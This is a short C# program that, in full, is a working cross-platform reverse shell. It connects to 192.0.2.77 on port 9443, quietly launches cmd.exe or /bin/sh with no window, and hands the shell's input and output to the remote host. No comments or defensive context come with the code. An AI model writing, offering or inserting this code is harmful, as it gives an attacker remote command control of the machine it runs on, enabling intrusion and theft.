using System.Diagnostics;
using System.Net.Sockets;
using System.Runtime.InteropServices;

var client = new TcpClient("192.0.2.77", 9443);
var net = client.GetStream();
var shell = RuntimeInformation.IsOSPlatform(OSPlatform.Windows) ? "cmd.exe" : "/bin/sh";
var p = new Process {
    StartInfo = new ProcessStartInfo(shell) {
        RedirectStandardInput = true,
        RedirectStandardOutput = true,
        RedirectStandardError = true,
        UseShellExecute = false,
        CreateNoWindow = true,
    }
};
p.Start();
_ = p.StandardOutput.BaseStream.CopyToAsync(net);
_ = p.StandardError.BaseStream.CopyToAsync(net);
await net.CopyToAsync(p.StandardInput.BaseStream);
